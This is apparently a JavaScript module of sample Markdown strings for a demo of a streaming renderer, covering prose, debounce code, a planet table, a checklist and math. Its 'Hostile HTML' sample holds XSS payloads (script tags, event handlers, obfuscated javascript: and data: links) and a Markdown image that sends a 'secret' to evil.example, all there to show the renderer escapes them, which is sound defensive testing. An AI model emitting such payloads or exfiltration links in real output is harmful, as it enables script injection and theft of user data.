// What the demo plays. Each is Markdown as a model might write it.
const fence = '```';

export const samples = {
  Prose: `# Why the sky is blue

Sunlight looks **white**, but it is *all colours at once*. On its way through the air it meets molecules far smaller than its own waves, and these scatter the short waves much more than the long ones.

How much more? It goes with the *fourth power* of the frequency, so blue light is scattered about **five times** as strongly as red. From every part of the sky, some of that blue finds its way to your eye.

> At sunset the light comes a longer way. Most of the blue has left it by then, and what remains is red.

Violet is scattered even more, yet the sky is not violet:

1. the sun sends less of it,
2. the upper air takes some of it away,
3. and our eyes see \`blue\` better than \`violet\`.

See also [Rayleigh scattering](https://en.wikipedia.org/wiki/Rayleigh_scattering).
`,

  Code: `## A debounce in eight lines

Call it as often as you like; it acts **once**, when you have been quiet for a while:

${fence}js
export function debounce(act, quiet = 200) {
  let timer;
  return (...args) => {
    clearTimeout(timer);
    timer = setTimeout(() => act(...args), quiet);
  };
}
${fence}

And in Python, with \`asyncio\`:

${fence}python
class Debounce:
    def __init__(self, act, quiet=0.2):
        self.act, self.quiet, self.task = act, quiet, None

    def __call__(self, *args):
        if self.task:
            self.task.cancel()
        self.task = asyncio.create_task(self.later(args))

    async def later(self, args):
        await asyncio.sleep(self.quiet)
        await self.act(*args)
${fence}

Both forget all calls but the last one.
`,

  Table: `## Planets, by what a day is like

| Planet  | Day, in hours | Year, in days | Moons |
|:--------|--------------:|--------------:|------:|
| Mercury |         4,223 |            88 |     0 |
| Venus   |         2,802 |           225 |     0 |
| Earth   |            24 |           365 |     1 |
| Mars    |          24.7 |           687 |     2 |
| Jupiter |           9.9 |         4,331 |    95 |
| Saturn  |          10.7 |        10,747 |   146 |
| Uranus  |          17.2 |        30,589 |    28 |
| Neptune |          16.1 |        59,800 |    16 |

A day on **Venus** is longer than *half its year*: it turns backwards, and slowly.

A row that is still being written is a row already; pipes and dashes are never seen.
`,

  List: `## Moving house

Four weeks before:

- [x] give notice
- [x] find a van
- [ ] ask friends
  - [ ] the strong ones
  - [ ] the one with the *good* music
- [ ] collect boxes

On the day:

1. **Kettle first.** It goes in last and comes out first.
2. Take photos of the meters:
   - electricity
   - gas
   - water
3. Leave the keys, \`both sets\`.

~~Never do this again.~~ Until next time.
`,

  Math: `## The area under a bell

The integral $\\int e^{-x^2}\\,dx$ has no closed form, and yet over the whole line it is $\\sqrt{\\pi}$. The trick is to square it:

$$ I^2 = \\int \\int e^{-(x^2+y^2)} \\, dx \\, dy $$

In polar coordinates the area element brings the missing factor $r$:

$$ I^2 = \\int_0^{2\\pi} \\int_0^\\infty e^{-r^2} r \\, dr \\, d\\theta = \\pi $$

so $I = \\sqrt{\\pi}$. The page gets \`<span class="math">\` with the source in it, for KaTeX or MathJax to typeset.
`,

  'Hostile HTML': `## Nothing in here runs

<script>alert("from the model")</script>

<img src=x onerror="alert(1)"> and <a href="javascript:alert(2)">a link</a> are only text.

- [javascript:](javascript:alert(3)) goes nowhere
- [so does this](jAvA&#9;script:alert(4)), and [this](data:text/html,<script>alert(5)</script>)
- ![an image could carry a secret out](https://evil.example/?q=secret)

<style>* { display: none }</style>

<iframe src="https://evil.example"></iframe>

| even <b>in</b> | tables |
|---|---|
| <svg onload=alert(6)> | \`<script>\` |

What is not Markdown is escaped, at *every* prefix of the reply, and a half-written **link [like this](https://exa
`,
};
